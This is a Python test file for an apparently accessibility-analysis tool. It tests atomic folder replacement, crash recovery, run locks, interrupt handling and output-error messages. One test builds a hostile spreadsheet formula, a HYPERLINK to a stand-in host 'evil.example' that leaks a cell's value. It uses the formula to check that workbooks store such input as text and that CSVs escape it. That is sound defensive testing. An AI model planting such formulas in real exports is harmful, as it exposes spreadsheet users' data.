"""Atomic writes: a finished folder replaces the old one; a failure leaves it intact; batch
sub-folders of a run folder survive a new run."""

from __future__ import annotations

import pytest

from accessibility._io import atomic_dir


def test_atomic_dir_replaces_keeps_batch_folders_and_survives_failure(tmp_path):
    out = tmp_path / "run"
    with atomic_dir(out) as tmp:
        (tmp / "a.csv").write_text("1")
    (out / "scenarios" / "flat").mkdir(parents=True)
    (out / "scenarios" / "flat" / "x.csv").write_text("s")
    (out / "unit_siting").mkdir()
    # a new run replaces its own files, keeps the batch results written into its folder
    with atomic_dir(out, keep=("scenarios", "unit_siting")) as tmp:
        (tmp / "b.csv").write_text("2")
    assert sorted(p.name for p in out.iterdir()) == ["b.csv", "scenarios", "unit_siting"]
    assert (out / "scenarios" / "flat" / "x.csv").read_text() == "s"
    assert not any(p.name.startswith(".") for p in tmp_path.iterdir())  # no leftovers
    # a failed run leaves everything as it was
    with pytest.raises(RuntimeError), atomic_dir(out, keep=("scenarios",)) as tmp:
        (tmp / "c.csv").write_text("3")
        raise RuntimeError("boom")
    assert sorted(p.name for p in out.iterdir()) == ["b.csv", "scenarios", "unit_siting"]
    assert not any(p.name.startswith(".") for p in tmp_path.iterdir())


def test_run_refuses_a_folder_that_is_not_a_run_folder(tmp_path):
    """Review finding: `run --out` on a folder with other files would have replaced it whole."""
    from accessibility._errors import DataError
    from accessibility.pipeline import COMPLETE_MARKER, _check_output_dir

    _check_output_dir(tmp_path / "new")  # fine: does not exist
    (tmp_path / "empty").mkdir()
    _check_output_dir(tmp_path / "empty")  # fine: empty
    mine = tmp_path / "project"
    mine.mkdir()
    (mine / "notes.txt").write_text("keep me")
    with pytest.raises(DataError, match="holds no earlier run"):
        _check_output_dir(mine)
    assert (mine / "notes.txt").read_text() == "keep me"
    (tmp_path / "earlier").mkdir()
    (tmp_path / "earlier" / COMPLETE_MARKER).write_text("{}")
    (tmp_path / "earlier" / "a.csv").write_text("1")
    _check_output_dir(tmp_path / "earlier")  # an earlier run's folder may be replaced


def test_workbook_never_holds_formulas(tmp_path):
    import openpyxl
    import pandas as pd

    from accessibility.config import load_area
    from accessibility.pipeline import _rounded
    from accessibility.report import write_workbook

    cfg = load_area("config/areas/jiangbei.yaml", check_files=False)
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"养老服务站")'
    df = pd.DataFrame({"name": [hostile, "+1+1", "普通名称"], "n": [1, -2, 3]})
    path = write_workbook(tmp_path / "x.xlsx", {"facilities": df}, config=cfg)
    ws = openpyxl.load_workbook(path)["facilities"]
    cells = [c for row in ws.iter_rows() for c in row]
    assert not any(c.data_type == "f" for c in cells)
    assert any(c.value == hostile for c in cells)  # kept as text, not lost
    safe = _rounded(df)  # CSVs: a leading apostrophe, so Excel/WPS show text
    assert safe["name"].tolist() == ["'" + hostile, "'+1+1", "普通名称"] and safe["n"].tolist() == [1, -2, 3]


# ---------------------------------------------------------------------------------------------
# nothing lost: interrupts, killed runs, locks, permissions, output failures (issue 15)


def _tree(folder):
    return {str(p.relative_to(folder)): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}


def _finished(out, text="old"):
    from accessibility._io import atomic_dir

    with atomic_dir(out) as tmp:
        (tmp / "a.csv").write_text(text)
        (tmp / "maps").mkdir()
        (tmp / "maps" / "m.html").write_text(text)


def test_run_folders_get_the_users_umask(tmp_path):
    import os
    import stat

    old = os.umask(0o022)
    try:
        _finished(tmp_path / "run")
        assert stat.S_IMODE((tmp_path / "run").stat().st_mode) == 0o755  # not mkdtemp's 0700
        assert stat.S_IMODE((tmp_path / "run" / "maps").stat().st_mode) == 0o755
        os.umask(0o027)
        _finished(tmp_path / "run2")
        assert stat.S_IMODE((tmp_path / "run2").stat().st_mode) == 0o750
    finally:
        os.umask(old)


def test_commit_interrupted_between_the_renames_puts_the_old_folder_back(tmp_path, monkeypatch):
    import os

    from accessibility import _io

    out = tmp_path / "run"
    _finished(out)
    before = _tree(out)
    real = os.replace
    calls = []

    def replace(a, b):
        calls.append((a, b))
        if len(calls) == 2:  # the new folder's rename: the process dies here
            raise KeyboardInterrupt
        return real(a, b)

    monkeypatch.setattr(_io.os, "replace", replace)
    with pytest.raises(KeyboardInterrupt), _io.atomic_dir(out) as tmp:
        (tmp / "a.csv").write_text("new")
    monkeypatch.undo()
    assert len(calls) == 3  # old -> .old, new -> out (fails), .old -> out (put back)
    assert _tree(out) == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["run"]


def test_next_run_restores_results_of_a_run_killed_mid_commit_and_removes_leftovers(tmp_path):
    """SIGKILL between the two renames leaves only .run.old; a SIGKILLed run leaves .run.run.* folders."""
    import os

    from accessibility._errors import AccessibilityWarning
    from accessibility._io import recover_run_folder

    out = tmp_path / "run"
    _finished(out)
    before = _tree(out)
    os.replace(out, tmp_path / ".run.old")  # killed right after the first rename
    junk = tmp_path / ".run.run.k1ll3d"
    (junk / "maps").mkdir(parents=True)
    (junk / "maps" / "big.html").write_bytes(b"x" * 100_000)
    (tmp_path / "other").mkdir()  # not ours: untouched
    with pytest.warns(AccessibilityWarning, match="previous results were restored from .run.old"):
        done = recover_run_folder(out)
    assert _tree(out) == before
    assert any("removed .run.run.k1ll3d" in d for d in done)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["other", "run"]
    # killed after the swap, before the batch folders moved: they move now, .old goes
    _finished(out, "new")
    (tmp_path / ".run.old" / "scenarios" / "flat").mkdir(parents=True)
    (tmp_path / ".run.old" / "scenarios" / "flat" / "x.csv").write_text("s")
    recover_run_folder(out, keep=("scenarios",))
    assert (out / "scenarios" / "flat" / "x.csv").read_text() == "s"
    assert (out / "a.csv").read_text() == "new"
    assert not (tmp_path / ".run.old").exists()
    assert recover_run_folder(out) == []  # nothing to do


def test_swallowed_ctrl_c_stops_before_anything_is_replaced(tmp_path):
    """Review finding: a KeyboardInterrupt raised inside zipfile.__del__ is only printed by Python;
    the guard remembers it and the commit refuses."""
    import contextlib
    import signal

    from accessibility._io import atomic_dir, check_interrupted, interrupt_guard

    out = tmp_path / "run"
    _finished(out)
    before = _tree(out)
    with pytest.raises(KeyboardInterrupt), interrupt_guard(), atomic_dir(out) as tmp:
        (tmp / "a.csv").write_text("new")
        with contextlib.suppress(KeyboardInterrupt):  # the Ctrl-C is lost, as in a __del__
            signal.raise_signal(signal.SIGINT)
        (tmp / "b.csv").write_text("the run went on")
    assert _tree(out) == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["run"]
    check_interrupted()  # outside the guard the flag is cleared
    assert signal.getsignal(signal.SIGINT) is signal.default_int_handler


def test_lock_refuses_a_live_run_and_takes_over_a_dead_ones(tmp_path, caplog):
    import json
    import socket
    import subprocess
    import sys

    from accessibility._errors import RunLockedError
    from accessibility._io import run_lock

    out = tmp_path / "run"
    lock = tmp_path / ".run.lock"
    with run_lock(out) as info:
        assert json.loads(lock.read_text())["pid"] == info["pid"]
        with pytest.raises(RunLockedError) as err, run_lock(out):  # the same folder, a second time
            pass
        msg = str(err.value)
        assert f"pid {info['pid']}" in msg and socket.gethostname() in msg and info["started"] in msg
    assert not lock.exists()
    # another live process
    other = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)"])
    try:
        lock.write_text(json.dumps({"pid": other.pid, "host": socket.gethostname(), "started": "2026-01-01 10:00:00 UTC",
                                    "command": "accessibility run", "token": "x"}))
        with pytest.raises(RunLockedError, match=f"pid {other.pid} .* started 2026-01-01 10:00:00 UTC"), run_lock(out):
            pass
        assert json.loads(lock.read_text())["pid"] == other.pid  # not taken
    finally:
        other.kill()
        other.wait()
    # the same process is gone now: a stale lock, taken over
    with caplog.at_level("WARNING"), run_lock(out) as info:
        assert json.loads(lock.read_text())["token"] == info["token"]
    assert "taking over the lock of a run that is gone" in caplog.text and str(other.pid) in caplog.text
    # a lock from another machine cannot be checked: refused, with the way out
    lock.write_text(json.dumps({"pid": 1, "host": "elsewhere", "started": "t"}))
    with pytest.raises(RunLockedError, match="another machine"), run_lock(out):
        pass


@pytest.mark.parametrize(("code", "text"), [
    (28, "the disk is full"), (30, "read-only file system"), (13, "no permission to write"),
])
def test_output_failures_are_one_line_messages(tmp_path, monkeypatch, code, text):
    import errno
    import os

    from accessibility import _io
    from accessibility._errors import OutputError

    assert (errno.ENOSPC, errno.EROFS, errno.EACCES) == (28, 30, 13)
    out = tmp_path / "run"
    _finished(out)
    before = _tree(out)

    # a writer failing half-way (GDAL, openpyxl, plain open)
    def failing_writer(tmp):
        raise OSError(code, os.strerror(code), str(tmp))

    with pytest.raises(OutputError, match=text) as err, _io.atomic_dir(out) as tmp, _io.atomic_path(tmp / "x.gpkg") as f:
        failing_writer(f)
    assert "\n" not in str(err.value) and str(tmp_path) in str(err.value)
    assert _tree(out) == before and sorted(p.name for p in tmp_path.iterdir()) == ["run"]

    # found before any work: the lock (the first file a run writes) cannot be created
    def no_lock(path):
        raise OSError(code, os.strerror(code), str(path))

    monkeypatch.setattr(_io, "_open_exclusive", no_lock)
    with pytest.raises(OutputError, match=text), _io.run_lock(out):
        pass


def test_gdal_disk_full_text_and_free_space_check(tmp_path, monkeypatch):
    import collections

    from accessibility import _io
    from accessibility._errors import OutputError

    err = _io.output_error(RuntimeError("database or disk is full"), tmp_path / "cells.gpkg")
    assert isinstance(err, OutputError) and "the disk is full" in str(err)
    assert _io.output_error(ValueError("bad value"), tmp_path) is None
    _io.check_output_folder(tmp_path / "run")  # plenty of space here
    usage = collections.namedtuple("usage", "total used free")
    monkeypatch.setattr(_io.shutil, "disk_usage", lambda p: usage(10 * 2**30, 10 * 2**30 - 2**20, 2**20))
    with pytest.raises(OutputError, match=r"not enough free space .* 1 MB free, about 64 MB needed"):
        _io.check_output_folder(tmp_path / "run")
